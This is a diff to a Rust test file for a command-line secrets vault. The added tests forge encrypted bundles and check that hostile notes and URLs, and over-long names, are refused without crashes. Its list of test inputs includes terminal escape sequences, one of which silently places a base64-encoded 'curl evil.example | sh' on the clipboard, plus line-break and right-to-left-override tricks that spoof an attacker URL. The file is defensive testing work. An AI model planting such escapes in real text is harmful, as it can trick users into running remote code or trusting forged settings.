@@ -3,7 +3,7 @@
 //! command line both ways; wrong recipient, wrong passphrase, truncated, tampered and
 //! unknown-version bundles fail with their exit code and import nothing.
 
-mod common;
+use crate::common;
 
 use common::cli::Env;
 use predicates::prelude::*;
@@ -265,4 +265,172 @@ fn damaged_and_unknown_bundles_import_nothing() {
         .assert()
         .code(4);
     nothing_imported(&b);
+}
+
+/// A bundle as an attacker makes one: a payload written by hand, encrypted by the `age` CLI
+/// to `to`'s public identity (which is public by design).
+fn forged(to: &Env, name: &str, secrets: serde_json::Value) -> std::path::PathBuf {
+    let payload = serde_json::json!({
+        "devvault_bundle": 1,
+        "scopes": [{"scope": "myapp/dev", "secrets": secrets}],
+    });
+    let plain = to.work().join(format!("{name}.json"));
+    std::fs::write(&plain, payload.to_string()).unwrap();
+    let enc = to.work().join(format!("{name}.age"));
+    run(Command::new("age")
+        .args(["-r", &identity(to), "-o"])
+        .arg(&enc)
+        .arg(&plain));
+    enc
+}
+
+/// Terminal escapes and line ends an attacker puts in a note or URL.
+const HOSTILE_TEXT: &[&str] = &[
+    "rotated by ops\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "\x1b]0;owned title\x07rotated",
+    "rotated\x1b[2J\x1b[H\x1b[1A\x1b[2K(ticket OPS-1234)",
+    "rotated\rAPI_BASE=https://attacker.example",
+    "rotated\u{2028}API_BASE=https://attacker.example",
+    "rotated \u{202e}4321-SPO tekcit",
+];
+
+#[test]
+fn hostile_notes_and_urls_in_a_bundle_are_refused_by_key_name() {
+    let b = Env::new();
+    for (i, text) in HOSTILE_TEXT.iter().enumerate() {
+        for field in ["comment", "url"] {
+            let secrets = serde_json::json!([
+                {"key": "FINE", "value": "v"},
+                {"key": "API_BASE", "value": "https://api.example", field: text},
+            ]);
+            let bundle = forged(&b, &format!("hostile{i}{field}"), secrets);
+            let out = b
+                .cmd()
+                .args(["receive", "-y"])
+                .arg(&bundle)
+                .assert()
+                .code(1);
+            let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+            assert!(err.contains("`API_BASE`"), "{text:?}: {err}");
+            assert!(
+                !err.contains(['\x1b', '\r', '\u{2028}', '\u{202e}', '\x07']),
+                "{text:?}: {err:?}"
+            );
+            nothing_imported(&b);
+        }
+    }
+    // Plain notes and URLs still come along and show in history and example.
+    let secrets = serde_json::json!([{"key": "API_BASE", "value": "https://api.example",
+        "comment": "rotated by ops (OPS-1234)", "url": "https://dash.example/keys"}]);
+    let bundle = forged(&b, "fine", secrets);
+    b.cmd()
+        .args(["receive", "-y"])
+        .arg(&bundle)
+        .assert()
+        .success();
+    b.cmd()
+        .args(["history", "myapp/dev", "API_BASE"])
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("rotated by ops (OPS-1234)"));
+    b.cmd()
+        .args(["example", "myapp/dev"])
+        .assert()
+        .success()
+        .stdout(predicate::str::contains(
+            "# rotated by ops (OPS-1234)\n# issued at https://dash.example/keys\nAPI_BASE=\n",
+        ));
+}
+
+#[test]
+fn a_70000_byte_name_from_a_bundle_or_an_import_is_refused_without_a_panic() {
+    let b = Env::new();
+    let long = "K".repeat(70_000);
+    let bundle = forged(&b, "long", serde_json::json!([{"key": long, "value": "v"}]));
+    let out = b
+        .cmd()
+        .args(["receive", "-y"])
+        .arg(&bundle)
+        .assert()
+        .code(1);
+    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+    assert!(err.contains("70000 bytes, longer than 256"), "{err}");
+    assert!(
+        err.len() < 1000,
+        "the error quotes the whole name: {} bytes",
+        err.len()
+    );
+    nothing_imported(&b);
+    let env_file = b.work().join("long.env");
+    std::fs::write(&env_file, format!("OK=1\n{long}=v\n")).unwrap();
+    let out = b
+        .cmd()
+        .args(["import", "myapp/dev"])
+        .arg(&env_file)
+        .assert()
+        .code(1);
+    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
+    assert!(err.contains("longer than 256") && err.len() < 1000, "{err}");
+    nothing_imported(&b);
+    // A long project or environment name is refused the same way.
+    let p = "p".repeat(65);
+    b.cmd()
+        .args(["set", &format!("{p}/dev"), "K"])
+        .write_stdin("v")
+        .assert()
+        .code(2)
+        .stderr(predicate::str::contains("longer than 64"));
+    for cmd in [&["ls", "myapp/dev"][..], &["audit"][..]] {
+        let out = b.cmd().args(cmd).output().unwrap();
+        assert!(
+            out.status.code().is_some_and(|c| c < 100),
+            "{cmd:?} crashed"
+        );
+    }
+}
+
+#[test]
+fn a_vault_holding_names_from_before_the_limits_still_opens_lists_and_exports() {
+    use devvault::{KeyName, Passphrase, Scope, SecretValue, Vault};
+    let e = Env::new();
+    let long_key = "K".repeat(70_000);
+    let long_scope = format!("{}/dev", "p".repeat(100));
+    {
+        // Names as an older devvault stored them (no length limit then).
+        let mut v = Vault::open(&e.vault)
+            .unwrap()
+            .unlock(&Passphrase::new(common::cli::PASS.to_string()))
+            .unwrap();
+        let scope = Scope::parse("myapp/dev").unwrap();
+        let value = SecretValue::from("old-long-value");
+        v.set(&scope, &KeyName::stored(&long_key).unwrap(), &value)
+            .unwrap();
+        let wide = Scope::parse_stored(&long_scope).unwrap();
+        v.set(&wide, &KeyName::new("K").unwrap(), &value).unwrap();
+    }
+    for args in [
+        &["ls", "myapp/dev"][..],
+        &["audit"][..],
+        &["stale"][..],
+        &["projects"][..],
+        &["export", "myapp/dev", "--format", "json"][..],
+    ] {
+        let out = e.cmd().args(args).output().unwrap();
+        assert!(
+            out.status.success(),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    assert_eq!(e.get(&["myapp/dev", &long_key]), "old-long-value");
+    // New long names are refused; the old one can still be removed.
+    e.cmd()
+        .args(["set", "myapp/dev", &format!("{long_key}X")])
+        .write_stdin("v")
+        .assert()
+        .code(2);
+    e.cmd()
+        .args(["rm", "myapp/dev", &long_key])
+        .assert()
+        .success();
 }
